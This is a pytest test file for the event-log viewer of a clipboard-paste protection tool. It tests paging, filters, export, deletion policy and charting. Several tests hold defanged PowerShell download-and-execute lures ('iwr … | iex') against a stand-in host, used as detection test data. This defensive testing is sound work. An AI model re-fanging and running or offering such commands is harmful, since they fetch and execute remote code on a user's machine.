"""The log viewer: lazy pages, filters, details, export through the CLI's code, policy on delete."""

from __future__ import annotations

import argparse
import csv
import io
import json
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from PySide6.QtWidgets import QApplication
from pytestqt.qtbot import QtBot

from app.commands import UsageError
from app.detection import Context, Engine, PasteTarget
from app.events import Event, EventKind
from app.forwarding.ecs import to_ecs
from app.storage import EventFilter, EventStore
from app.storage.export import write_export
from tests.ui.conftest import MALICIOUS, PAGE
from ui.viewer import window as viewer_module
from ui.viewer.window import ViewerWindow

COUNT = 650  # a little over three pages
NOW = datetime.now(UTC)
LEVELS = ("clean", "info", "suspicious", "malicious")
TARGETS = ("run_dialog", "terminal", "browser_console")


def synthetic(i: int) -> Event:
    return Event(
        kind=("clipboard_flagged", "paste_blocked", "paste_warned", "started")[i % 4],
        time=NOW - timedelta(hours=i),
        level=LEVELS[i % 4],
        summary=f"event number {i}",
        source=f"https://site{i % 7}.example/page",
        target=TARGETS[i % 3],
        action="blocked",
    )


@pytest.fixture
def store(tmp_path: Path, engine: Engine) -> Iterator[EventStore]:
    with EventStore.open(tmp_path / "data") as s:
        for i in range(COUNT - 1, 0, -1):  # oldest first, as they happen
            s.append(synthetic(i))
        verdict = engine.analyze(MALICIOUS + "\u200b<script>x</script>",
                                 Context(source=PAGE, target=PasteTarget.RUN_DIALOG))  # fmt: skip
        s.append(Event.from_verdict(EventKind.CLIPBOARD_NEUTRALIZED.value, verdict,
                                    MALICIOUS + "\u200b<script>x</script>", "neutralized"))  # fmt: skip
        yield s


@pytest.fixture
def window(qtbot: QtBot, store: EventStore) -> ViewerWindow:
    w = ViewerWindow(store, allow_delete=True)
    qtbot.addWidget(w)
    w.show()
    qtbot.waitUntil(lambda: "events match" in w.count_label.text() and not w.stats_pending)
    return w


def settle(w: ViewerWindow, qtbot: QtBot) -> None:
    """Ask for the count and the chart again and wait until both are shown (they are read on
    the viewer's stats thread and come back through the Qt event loop)."""
    w.update_stats()
    assert w.stats_pending or "events match" in w.count_label.text()
    qtbot.waitUntil(lambda: not w.stats_pending)


def ids(w: ViewerWindow) -> list[int]:
    return [w.model.event_at(r).id for r in range(w.model.rowCount())]  # type: ignore[union-attr]


def test_it_opens_on_the_newest_page_and_loads_more_as_you_scroll(
    window: ViewerWindow, qtbot: QtBot
) -> None:
    model = window.model
    assert model.rowCount() == 200 and model.canFetchMore()
    assert model.event_at(0).kind == "clipboard_neutralized"  # type: ignore[union-attr]
    assert window.count_label.text() == f"{COUNT} events match"
    window.table.scrollToBottom()
    qtbot.waitUntil(lambda: model.rowCount() > 200)
    while model.canFetchMore():
        model.fetchMore()
    shown = ids(window)
    assert len(shown) == COUNT == len(set(shown))  # every event once, no page overlapping
    times = [model.event_at(r).time for r in range(COUNT)]  # type: ignore[union-attr]
    assert times == sorted(times, reverse=True)


def test_columns_show_time_level_summary_kind_action_source_target(window: ViewerWindow) -> None:
    model = window.model
    headers = [model.headerData(c, __import__("PySide6.QtCore").QtCore.Qt.Orientation.Horizontal)
               for c in range(model.columnCount())]  # fmt: skip
    assert headers == ["Time", "Level", "Summary", "Kind", "Action", "Source", "Target"]
    row = [model.index(1, c).data() for c in range(model.columnCount())]
    assert row[1:] == ["info", "event number 1", "paste blocked", "blocked",
                       "hxxps://site1[.]example/page", "terminal"]  # fmt: skip


@pytest.mark.parametrize(
    ("set_up", "expect"),
    [
        (lambda f: f.level.setCurrentIndex(1), lambda e: e.level == "malicious"),
        (lambda f: f.level.setCurrentIndex(2), lambda e: e.level in ("suspicious", "malicious")),
        (lambda f: f.select(f.kind, "paste_warned"), lambda e: e.kind == "paste_warned"),
        (lambda f: f.select(f.target, "terminal"), lambda e: e.target == "terminal"),
        (lambda f: f.select(f.period, 1.0), lambda e: e.time >= NOW - timedelta(days=1, minutes=1)),
    ],
)
def test_filters(window: ViewerWindow, store: EventStore, qtbot: QtBot, set_up, expect) -> None:  # type: ignore[no-untyped-def]
    set_up(window.filters)
    qtbot.waitUntil(lambda: not window.stats_pending)
    model = window.model
    while model.canFetchMore():
        model.fetchMore()
    events = [model.event_at(r) for r in range(model.rowCount())]
    assert events and all(expect(e) for e in events)
    assert len(events) == store.count(model.filter)
    assert window.count_label.text() == f"{len(events)} events match"


def test_free_text_search_waits_for_a_typing_pause(window: ViewerWindow, qtbot: QtBot) -> None:
    window.filters.search.setText("NUMBER 642")
    assert window.model.rowCount() == 200  # not yet: the person is still typing
    qtbot.waitUntil(lambda: window.model.rowCount() == 1, timeout=2000)
    assert window.model.event_at(0).summary == "event number 642"  # type: ignore[union-attr]


def test_a_custom_time_range(window: ViewerWindow) -> None:
    from PySide6.QtCore import QDateTime

    f = window.filters
    f.select(f.period, "custom")
    assert f.since.isVisible() and f.until.isVisible()
    f.since.setDateTime(QDateTime(NOW - timedelta(hours=10, minutes=30)))
    f.until.setDateTime(QDateTime(NOW - timedelta(hours=4, minutes=30)))
    summaries = {window.model.event_at(r).summary for r in range(window.model.rowCount())}  # type: ignore[union-attr]
    assert summaries == {f"event number {i}" for i in range(5, 11)}


def test_a_custom_time_range_cannot_end_before_it_starts(window: ViewerWindow) -> None:
    """A "To" before the "From" held nothing, and the chart said "No events in this period"
    as if the log had been quiet then: each end now keeps to its side of the other."""
    from PySide6.QtCore import QDateTime

    f = window.filters
    f.select(f.period, "custom")
    f.until.setDateTime(QDateTime(NOW - timedelta(hours=4)))
    f.since.setDateTime(QDateTime(NOW - timedelta(hours=2)))  # after "To": held at "To"
    f.until.setDateTime(QDateTime(NOW - timedelta(hours=9)))  # before "From": held at "From"
    chosen = f.current()
    assert chosen.since is not None and chosen.until is not None
    assert chosen.since <= chosen.until


def test_details_show_findings_indicators_and_the_text_made_safe(
    window: ViewerWindow, qtbot: QtBot
) -> None:
    window.table.selectRow(0)
    shown = window.details.toPlainText()
    assert "PowerShell downloads code and runs it at once" in shown
    assert "ATT&CK T1059.001" in shown
    assert "hxxps://x[.]example/a.ps1" in shown and "https://x.example" not in shown
    assert "<U+200B>" in shown and "<script>x</script>" in shown  # shown as text, not markup
    assert "[… 60 spaces …]" in shown
    html = window.details.toHtml()
    assert "<script>" not in html


def test_details_show_a_bursts_versions_as_texts_not_as_json(qapp: QApplication) -> None:
    """A lure written in a loop with a counter appended is one event keeping its versions: the
    pane shows them as texts (defanged, marks shown), the first and the last whole."""
    from ui.viewer.details import details_html

    versions = [
        {"text": "iwr hxxps://x[.]example/a | iex # ID: 1", "whole": True},
        {"text": "iwr hxxps://x[.]example/a | iex # ID: 2\u202e", "whole": False},
        {"text": "iwr hxxps://x[.]example/a | iex # ID: 9", "whole": True},
    ]
    event = Event(kind="clipboard_neutralized", summary="s", text=versions[0]["text"],
                  details={"writes": 9, "versions": 9, "version_texts": versions})  # fmt: skip
    page = details_html(event)
    assert "Versions written (9 in all)" in page and "version_texts" not in page
    from ui.viewer.model import cells

    assert cells(event)[2] == "(9 times) s"  # the count first, as `log`: the column cuts the end
    assert page.count("ID: 9") == 1 and "&lt;U+202E&gt;" in page and "&quot;writes&quot;: 9" in page


def exported(window: ViewerWindow, qtbot: QtBot, target: Path, fmt: str) -> int:
    """Export through the window and wait for its answer; how many it says it wrote."""
    with qtbot.waitSignal(window._export_answer.done, timeout=30_000) as answer:
        assert window.export_to(target, fmt)
    assert not window.exporting and window.export_button.isEnabled()
    count = answer.args[0] if answer.args else -1
    assert isinstance(count, int)
    return count


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "ecs"])
def test_export_writes_what_the_filter_shows_as_the_cli_does(
    window: ViewerWindow, store: EventStore, tmp_path: Path, fmt: str, qtbot: QtBot
) -> None:
    window.filters.level.setCurrentIndex(2)  # suspicious or worse: more than one page
    target = tmp_path / f"out.{fmt}"
    count = exported(window, qtbot, target, fmt)
    expected = io.StringIO()
    wanted = EventFilter(levels=frozenset({"suspicious", "malicious"}))
    assert (
        count == write_export(store, wanted, fmt, expected, ecs=to_ecs) == store.count(wanted) > 200
    )
    with target.open(encoding="utf-8", newline="") as handle:
        written = handle.read()
    assert written == expected.getvalue()
    if fmt == "csv":
        levels = {r["level"] for r in csv.DictReader(io.StringIO(written))}
    else:
        records = [json.loads(line) for line in written.splitlines()]
        levels = {r["level"] if fmt == "jsonl" else r["log"]["level"] for r in records}
    assert levels == ({"warning", "critical"} if fmt == "ecs" else {"suspicious", "malicious"})


def test_an_export_never_holds_the_qt_thread_and_closing_stops_it(
    window: ViewerWindow, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, qtbot: QtBot
) -> None:
    """It ran on the Qt thread: a full log in ECS took minutes (18 s for 50,000 events), and
    in the guard's own process that thread writes the harmless line and raises the warning.
    Now the window answers while it runs, says so, and a closed window stops it and leaves
    no half file."""
    release = threading.Event()
    real = viewer_module.write_export

    def slow(store, wanted, fmt, out, *, ecs=None):  # type: ignore[no-untyped-def]
        out.write("first line\n")
        release.wait(10)  # the export is under way until the test lets it go on
        return real(store, wanted, fmt, out, ecs=ecs)

    monkeypatch.setattr(viewer_module, "write_export", slow)
    target = tmp_path / "big.ndjson"
    assert window.export_to(target, "ecs")  # returned: the Qt thread is free meanwhile
    assert window.exporting and not window.export_button.isEnabled()
    assert "Exporting the shown events" in window.statusBar().currentMessage()
    assert not window.export_to(tmp_path / "second.ndjson", "ecs")  # one at a time
    window.apply_filter()  # the table still answers
    with qtbot.waitSignal(window._export_answer.done, timeout=30_000):
        release.set()
    assert f"Exported {COUNT} events" in window.statusBar().currentMessage()
    assert len(target.read_text(encoding="utf-8").splitlines()) == COUNT + 1

    release.clear()
    halfway = tmp_path / "closed.ndjson"
    assert window.export_to(halfway, "ecs")
    qtbot.waitUntil(halfway.exists)
    window.close()
    release.set()
    qtbot.waitUntil(lambda: not halfway.exists(), timeout=10_000)  # stopped, nothing left


def test_export_from_the_menu_asks_where(
    window: ViewerWindow, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, qtbot: QtBot
) -> None:
    target = tmp_path / "chosen.jsonl"
    offered: list[str] = []

    def ask(parent: object, title: str, where: str, kinds: str) -> tuple[str, str]:
        offered.append(where)
        return str(target), ""

    home = tmp_path / "home"
    (home / "Documents").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(tmp_path)  # the folder the app started in: not where to put a file
    monkeypatch.setattr(viewer_module.QFileDialog, "getSaveFileName", ask)
    with qtbot.waitSignal(window._export_answer.done, timeout=30_000):
        window.export_button.menu().actions()[1].trigger()
    assert Path(offered[0]).parent in (home / "Documents", home)
    assert len(target.read_text(encoding="utf-8").splitlines()) == COUNT
    assert f"Exported {COUNT} events" in window.statusBar().currentMessage()


def test_deleting_selected_events(window: ViewerWindow, store: EventStore) -> None:
    assert not window.delete_button.isEnabled()  # nothing selected
    window.table.selectRow(3)
    assert window.delete_button.isEnabled()
    doomed = window.selected_ids()
    window.confirm_delete = lambda n: True  # type: ignore[method-assign]
    window._delete_clicked()
    assert store.get(doomed[0]) is None and store.count() == COUNT - 1
    assert window.model.rowCount() == 200 and doomed[0] not in ids(window)


def test_the_policy_can_forbid_deleting(qtbot: QtBot, store: EventStore) -> None:
    w = ViewerWindow(store, allow_delete=lambda: False)
    qtbot.addWidget(w)
    w.table.selectRow(0)
    assert not w.delete_button.isEnabled() and "policy" in w.delete_button.toolTip()
    assert w.delete(w.selected_ids()) == 0 and store.count() == COUNT


def test_the_chart_counts_every_event_in_bars_that_fit_the_range(
    window: ViewerWindow, store: EventStore, qtbot: QtBot
) -> None:
    chart = window.chart
    # all time: from the first event (27 days of hourly events), one bar a day
    assert chart.bins.unit == "day" and 27 <= chart.bins.count <= 29
    oldest = (NOW - timedelta(hours=COUNT - 1)).astimezone().replace(tzinfo=None)
    assert chart.bins.first.date() == oldest.date()
    assert sum(chart.totals().values()) == COUNT
    assert "events; the busiest bar starts" in chart.accessibleDescription()
    for period, unit, most in ((1 / 24, "5min", 13), (1.0, "hour", 25), (30.0, "day", 31)):
        window.filters.select(window.filters.period, period)
        qtbot.waitUntil(lambda: not window.stats_pending)
        assert chart.bins.unit == unit and chart.bins.count <= most, period
        assert sum(chart.totals().values()) == store.count(window.model.filter), period
    window.filters.level.setCurrentIndex(1)
    settle(window, qtbot)
    assert set().union(*chart.bars.values()) == {"malicious"}


def test_a_long_range_is_drawn_in_weeks() -> None:
    from ui.viewer.chart import choose_bins

    bins = choose_bins(datetime(2025, 1, 1, 9), datetime(2026, 1, 1))
    assert bins.unit == "week" and bins.first.weekday() == 0 and bins.count <= 54
    assert bins.index(datetime(2025, 1, 1, 9)) == 0 and bins.end >= datetime(2026, 1, 1)


def test_the_summary_column_is_in_view_at_the_default_size(window: ViewerWindow) -> None:
    header = window.table.horizontalHeader()
    column = window.model._headers.index("Summary")
    left = header.sectionViewportPosition(column)
    width = header.sectionSize(column)
    assert left >= 0 and width >= 200 and left + width <= header.viewport().width() + 1


def test_pasteguard_viewer_needs_an_event_log(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="no event log"):
        viewer_module.run_viewer(argparse.Namespace(data_dir=str(tmp_path / "none")), io.StringIO())


def test_pasteguard_viewer_opens_the_window(
    qapp: QApplication, store: EventStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PASTEGUARD_CONFIG_DIR", str(tmp_path / "config"))
    monkeypatch.setenv("PASTEGUARD_POLICY", str(tmp_path / "policy.toml"))
    seen: list[int] = []

    def event_loop(app: QApplication) -> int:
        # WORKAROUND: running and quitting the shared test QApplication's loop leaves it unable
        # to activate windows in later tests (offscreen); the window is inspected instead
        for widget in app.topLevelWidgets():
            if isinstance(widget, ViewerWindow) and widget.isVisible():
                seen.append(widget.model.rowCount())
                widget.close()
        return 0

    monkeypatch.setattr(QApplication, "exec", event_loop)
    args = argparse.Namespace(data_dir=str(tmp_path / "data"))
    assert viewer_module.run_viewer(args, io.StringIO()) == 0
    assert seen == [200]


def test_a_paste_allowed_by_the_user_shows_the_command_it_let_through(
    window: ViewerWindow, store: EventStore, engine: Engine
) -> None:
    from app.events import Action, sha256_of

    flagged = store.query(limit=1)[0]  # the neutralised lure, with its text
    assert flagged.text and flagged.sha256 == sha256_of(MALICIOUS + "\u200b<script>x</script>")
    allowed = Event(kind=EventKind.PASTE_ALLOWED_BY_USER.value, level=flagged.level,
                    action=Action.ALLOWED.value, sha256=flagged.sha256,
                    summary='The person chose "Paste anyway".')  # fmt: skip
    store.append(allowed)
    window.apply_filter()
    window.table.selectRow(0)
    shown = window.details.toPlainText()
    assert f"as event {flagged.id} (clipboard neutralized) flagged it" in shown
    assert "hxxps://x[.]example/a.ps1" in shown and "https://x.example" not in shown


def test_the_count_and_chart_never_hold_up_the_table(
    window: ViewerWindow, store: EventStore, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    """While the stats thread is stuck in a slow chart, a filter change still shows its page
    at once (the Qt thread does not wait), says it is counting, and the stale chart's answer
    is dropped when it finally comes: the newest filter's chart is the one drawn."""
    import threading

    from app.storage import queries

    release = threading.Event()
    entered = threading.Event()
    real = queries.counts_in_bins

    def slow(*args: object, **kwargs: object) -> object:
        entered.set()
        release.wait(10)
        return real(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(queries, "counts_in_bins", slow)
    window.filters.level.setCurrentIndex(2)  # suspicious or worse: its chart is now stuck
    qtbot.waitUntil(entered.is_set)  # asked once the table was painted
    window.filters.level.setCurrentIndex(0)  # any level, while it is stuck
    model = window.model
    assert model.rowCount() == 200  # the newest page, shown at once
    assert {model.event_at(r).level for r in range(200)} == set(LEVELS)  # type: ignore[union-attr]
    assert window.stats_pending and window.count_label.text() == "Counting…"
    release.set()
    qtbot.waitUntil(lambda: not window.stats_pending)
    assert set().union(*window.chart.bars.values()) == set(LEVELS)
    assert sum(window.chart.totals().values()) == COUNT
    assert window.count_label.text() == f"{COUNT} events match"


def test_a_search_on_many_events_is_counted_up_to_a_cap(
    window: ViewerWindow, store: EventStore, qtbot: QtBot
) -> None:
    window.stats.cap = 50
    window.filters.search.setText("event number")  # on almost every event
    qtbot.waitUntil(lambda: window.count_label.text() == "More than 50 events match")
    qtbot.waitUntil(lambda: not window.stats_pending)
    # the chart is not capped: it counts every match
    assert sum(window.chart.totals().values()) == store.count(window.model.filter) > 50


def test_a_word_on_many_events_is_charted_as_counted_and_says_so(
    window: ViewerWindow, store: EventStore, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A word on most events is charted a few bars at a time, newest first; each drawing
    before the last says it is still counting and leaves the rest hatched, not empty; the
    complete chart replaces it, with every match counted."""
    from app.storage import queries
    from ui.viewer import stats

    monkeypatch.setattr(queries, "SEARCH_WINDOW", 40)  # "event number" is common among 40
    monkeypatch.setattr(queries, "STEP_EVENTS", 10)
    monkeypatch.setattr(stats, "FIRST_PARTIAL_S", 0.0)  # draw after every step
    monkeypatch.setattr(stats, "PARTIAL_EVERY_S", 0.0)
    seen: list[tuple[int, str, str, bool]] = []
    window.stats.charted.connect(
        lambda generation, counts, bins, uncounted: seen.append(
            (uncounted, window.chart.title, window.chart.describe(), window.stats_pending)
        )
    )
    window.filters.search.setText("event number")
    window.filters.stop()
    window.filters.changed.emit()
    qtbot.waitUntil(lambda: not window.stats_pending and seen and seen[-1][0] == 0)
    partial = [s for s in seen if s[0]]
    assert len(partial) >= 3
    assert [u for u, *_ in partial] == sorted((u for u, *_ in partial), reverse=True)
    for _uncounted, title, description, pending in partial:
        assert "counting, newest first" in title and "Still counting" in description
        assert pending  # the viewer waits for the complete chart
    assert "counting" not in seen[-1][1] and "Still counting" not in seen[-1][2]
    assert window.chart.uncounted == 0
    assert sum(window.chart.totals().values()) == store.count(window.model.filter) > 600


def test_a_word_on_many_events_is_charted_at_once_the_next_time(
    window: ViewerWindow, store: EventStore, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Once a word on many events has been charted, its matches per day are kept: a level
    filter on the same search is charted in one step, with the right bars."""
    from app.storage import queries
    from ui.viewer import stats

    monkeypatch.setattr(queries, "SEARCH_WINDOW", 40)
    monkeypatch.setattr(queries, "STEP_EVENTS", 10)
    monkeypatch.setattr(stats, "FIRST_PARTIAL_S", 0.0)  # a chart counted in steps shows them
    monkeypatch.setattr(stats, "PARTIAL_EVERY_S", 0.0)
    monkeypatch.setattr(stats, "KEEP_AFTER_S", 0.0)  # kept however quick its chart was
    window.stats.cap = 50
    kept: list[int] = []
    window.stats.kept.connect(kept.append)
    window.filters.search.setText("event number")
    window.filters.stop()
    window.filters.changed.emit()
    qtbot.waitUntil(lambda: bool(kept) and kept[-1] == window.generation)
    # once kept, "more than 50" becomes the exact count
    exact = f"{store.count(window.model.filter):,} events match"
    qtbot.waitUntil(lambda: window.count_label.text() == exact)
    drawn: list[int] = []
    window.stats.charted.connect(
        lambda generation, counts, bins, uncounted: drawn.append(uncounted)
    )
    window.filters.level.setCurrentIndex(2)  # suspicious or worse: more than a page
    qtbot.waitUntil(lambda: not window.stats_pending)
    assert window.model.canFetchMore()  # so counted by the stats thread, not from the table
    assert drawn == [0]  # complete at once: no bars drawn before the rest
    expected = store.count(window.model.filter)
    assert expected > 100 and sum(window.chart.totals().values()) == expected
    assert window.count_label.text() == f"{expected:,} events match"  # not "more than 50"


def test_a_newer_filter_stops_the_counting_kept_in_the_background(
    window: ViewerWindow, store: EventStore, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    """While the stats thread counts a word's matches to keep them, the person goes on: a new
    filter is counted and charted at once, and the half-counted word is not kept."""
    import threading

    from app.storage import queries, search_counts
    from ui.viewer import stats

    monkeypatch.setattr(queries, "SEARCH_WINDOW", 40)
    monkeypatch.setattr(queries, "STEP_EVENTS", 10)
    monkeypatch.setattr(stats, "KEEP_AFTER_S", 0.0)
    monkeypatch.setattr(search_counts, "STEP_EVENTS", 24)  # a day a step
    in_step, release = threading.Event(), threading.Event()
    real_step = search_counts.step

    def held_step(conn: object, tally: search_counts.Tally) -> bool:
        in_step.set()
        release.wait(10)
        return real_step(conn, tally)  # type: ignore[arg-type]

    monkeypatch.setattr(search_counts, "step", held_step)
    kept: list[int] = []
    window.stats.kept.connect(kept.append)
    window.filters.search.setText("event number")
    window.filters.stop()
    window.filters.changed.emit()
    qtbot.waitUntil(in_step.is_set)  # the keep has begun, and waits
    # the stats thread begins the keep right after it sends the chart, which the Qt thread
    # takes from its queue a moment later: wait for it, then the chart is drawn
    qtbot.waitUntil(lambda: not window.stats_pending)
    assert not window.stats_pending
    asked = threading.Event()
    real_ask = window.stats.ask

    def ask(request: stats.Request) -> None:
        real_ask(request)
        asked.set()

    monkeypatch.setattr(window.stats, "ask", ask)
    window.filters.search.setText("")
    window.filters.stop()
    window.filters.level.setCurrentIndex(2)  # a new filter, while the keep is held
    assert window.model.rowCount() == 200  # the table at once: the Qt thread did not wait
    qtbot.waitUntil(asked.is_set)  # the stats thread has the new filter: the keep's chance
    release.set()
    qtbot.waitUntil(lambda: not window.stats_pending)
    assert sum(window.chart.totals().values()) == store.count(window.model.filter)
    assert kept == []  # the half-counted word was dropped, not kept
    monkeypatch.setattr(search_counts, "step", real_step)
    assert store.kept_count(EventFilter(search="event number")) is None


def test_the_viewer_says_why_it_cannot_open_and_leaves_a_damaged_log(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`pasteguard viewer` over a damaged events.db moved it aside and started a new one (the
    guard may have it open); with no display Qt aborted the process with its plugin list."""
    from app.storage import StoreUnavailable

    db = tmp_path / "events.db"
    db.write_bytes(b"not a database " * 500)
    with pytest.raises(StoreUnavailable):
        viewer_module.run_viewer(argparse.Namespace(data_dir=str(tmp_path)), io.StringIO())
    assert sorted(p.name for p in tmp_path.iterdir()) == ["events.db"]
    monkeypatch.delenv("QT_QPA_PLATFORM", raising=False)
    monkeypatch.delenv("DISPLAY", raising=False)
    monkeypatch.delenv("WAYLAND_DISPLAY", raising=False)
    monkeypatch.setattr(viewer_module.sys, "platform", "linux")
    with pytest.raises(UsageError, match="no desktop session here"):
        viewer_module.run_viewer(argparse.Namespace(data_dir=str(tmp_path)), io.StringIO())
